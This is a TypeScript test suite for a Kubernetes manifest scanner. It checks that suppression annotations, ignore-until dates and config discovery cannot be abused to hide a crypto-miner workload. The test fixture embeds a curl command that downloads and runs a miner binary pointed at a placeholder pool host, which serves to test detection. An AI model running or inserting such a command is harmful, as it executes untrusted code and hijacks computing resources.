/**
 * Issue 17, "Suppressions that an attacker cannot abuse": an annotation silences only its own
 * object, `ignore-until` cannot reach past the horizon, config discovery stops at the repository
 * root, and reports name the config that switched rules off.
 */
import assert from 'node:assert/strict';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, describe, test } from 'node:test';
import { runCli, tempDir } from '../helpers/cli.js';

interface JsonFinding {
  readonly ruleId: string;
  readonly resource: { readonly name: string };
  readonly location?: { readonly line: number };
  readonly suppression?: { readonly kind: string };
}
interface JsonReport {
  readonly findings: readonly JsonFinding[];
  readonly warnings: readonly string[];
}

function deployment(name: string, annotations: string, command: string): string {
  return `apiVersion: apps/v1
kind: Deployment
metadata:
  name: ${name}
  namespace: ml
${annotations}spec:
  selector: {matchLabels: {app: ${name}}}
  template:
    metadata: {labels: {app: ${name}}}
    spec:
      containers:
      - name: main
        image: registry.example.com/trainer@sha256:${'a'.repeat(64)}
        command: [sh, -c, ${JSON.stringify(command)}]
`;
}

/** A date the default horizon (366 days) admits. */
const SOON = new Date(Date.now() + 30 * 86_400_000).toISOString().slice(0, 10);
const MINER_COMMAND = 'curl -sL https://example.com/xmrig -o /tmp/x && /tmp/x -o stratum+tcp://pool.example.com:3333';
const IGNORE_ALL = (until?: string) =>
  `  annotations:\n    kfguard.io/ignore: "*"\n    kfguard.io/ignore-reason: "reviewed trainer"\n${until ? `    kfguard.io/ignore-until: "${until}"\n` : ''}`;

async function scanJson(cwd: string, args: readonly string[]): Promise<JsonReport> {
  const run = await runCli(['scan', ...args, '--format', 'json', '--fail-on', 'none'], { cwd });
  assert.equal(run.code, 0, run.stderr);
  return JSON.parse(run.stdout) as JsonReport;
}

function miners(report: JsonReport): JsonFinding[] {
  return report.findings.filter((f) => f.ruleId === 'crypto-miner-workload');
}

describe('suppression abuse', () => {
  const dir = tempDir();
  after(() => dir.cleanup());

  test('an annotated Deployment does not silence a same-named unannotated miner in the same file', async () => {
    writeFileSync(join(dir.path, 'twins.yaml'), `${deployment('trainer', IGNORE_ALL(), 'python train.py')}---\n${deployment('trainer', '', MINER_COMMAND)}`);
    const report = await scanJson(dir.path, ['twins.yaml']);
    const found = miners(report);
    assert.equal(found.length, 1, JSON.stringify(report.findings));
    assert.equal(found[0]?.suppression, undefined, 'the miner was silenced by its twin\'s annotation');
    assert.ok((found[0]?.location?.line ?? 0) > 18, 'the finding must be on the second document');
  });

  test('the annotated object itself is still silenced (the control)', async () => {
    writeFileSync(join(dir.path, 'own.yaml'), `${deployment('trainer', IGNORE_ALL(SOON), MINER_COMMAND)}---\n${deployment('trainer', '', 'python train.py')}`);
    const found = miners(await scanJson(dir.path, ['own.yaml']));
    assert.equal(found.length, 1);
    assert.equal(found[0]?.suppression?.kind, 'inline');
  });

  test('an annotation without ignore-until never silences a critical threat, and says why', async () => {
    writeFileSync(join(dir.path, 'forever.yaml'), deployment('trainer', IGNORE_ALL(), MINER_COMMAND));
    const report = await scanJson(dir.path, ['forever.yaml']);
    const found = miners(report);
    assert.equal(found.length, 1);
    assert.equal(found[0]?.suppression, undefined, 'a miner annotated without an end date was silenced for ever');
    assert.ok(report.warnings.some((w) => /crypto-miner-workload .*not honoured: a critical threat finding is suppressed only with kfguard\.io\/ignore-until/.test(w)), report.warnings.join('\n'));
  });

  test('ignore-until past the horizon is not honoured, and says why', async () => {
    writeFileSync(join(dir.path, 'forever.yaml'), deployment('forever', IGNORE_ALL('9999-12-31'), MINER_COMMAND));
    const report = await scanJson(dir.path, ['forever.yaml']);
    assert.equal(miners(report)[0]?.suppression, undefined);
    assert.ok(report.warnings.some((w) => /ignore-until 9999-12-31 is past the horizon/.test(w)), report.warnings.join('\n'));
  });

  test('ignore-until within the horizon holds; a shorter configured horizon refuses it', async () => {
    const soon = new Date(Date.now() + 30 * 86_400_000).toISOString().slice(0, 10);
    const sub = join(dir.path, 'horizon');
    mkdirSync(sub);
    writeFileSync(join(sub, 'soon.yaml'), deployment('soon', IGNORE_ALL(soon), MINER_COMMAND));
    assert.equal(miners(await scanJson(sub, ['soon.yaml']))[0]?.suppression?.kind, 'inline');
    writeFileSync(join(sub, 'short.yaml'), 'ignoreHorizonDays: 7\n');
    const capped = await scanJson(sub, ['soon.yaml', '--config', 'short.yaml']);
    assert.equal(miners(capped)[0]?.suppression, undefined);
    // The warning points at the setting, not at a `.kfguard.yaml` that was not the file loaded.
    const refusal = capped.warnings.find((w) => w.includes('past the horizon'));
    assert.ok(refusal, capped.warnings.join('\n'));
    assert.doesNotMatch(refusal, /\.kfguard\.yaml/);
    assert.match(refusal, /ignoreHorizonDays/);
  });

  test('config discovery stops at the repository root', async () => {
    const outer = join(dir.path, 'outer');
    const repo = join(outer, 'repo');
    mkdirSync(join(repo, '.git'), { recursive: true });
    writeFileSync(join(outer, '.kfguard.yaml'), 'rules: {crypto-miner-workload: {enabled: false}}\n');
    writeFileSync(join(repo, 'miner.yaml'), deployment('m', '', MINER_COMMAND));
    const report = await scanJson(repo, ['miner.yaml']);
    assert.equal(miners(report).length, 1, 'a config above the repository switched the rule off');
    assert.ok(!report.warnings.some((w) => w.startsWith('config ')), report.warnings.join('\n'));
    // Control: the same config inside the repository is found and named.
    writeFileSync(join(repo, '.kfguard.yaml'), 'rules: {crypto-miner-workload: {enabled: false}, pod-privileged: {severity: low}}\n');
    const inside = await scanJson(repo, ['miner.yaml']);
    assert.equal(miners(inside).length, 0);
    assert.ok(inside.warnings.includes('config .kfguard.yaml loaded: switches off crypto-miner-workload; lowers pod-privileged (high → low)'), inside.warnings.join('\n'));
  });
});
